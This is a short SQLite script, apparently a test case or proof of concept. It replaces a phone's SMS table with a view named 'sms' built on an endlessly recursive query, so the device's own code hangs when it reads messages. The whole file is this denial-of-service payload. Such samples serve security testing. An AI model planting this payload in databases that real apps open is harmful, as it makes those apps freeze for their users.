-- A view in place of the table would run the phone's own SQL, here for ever.
CREATE TABLE t(x);
CREATE VIEW sms AS WITH RECURSIVE r(address, date, body) AS (SELECT 1,2,3 UNION ALL SELECT * FROM r) SELECT * FROM r;
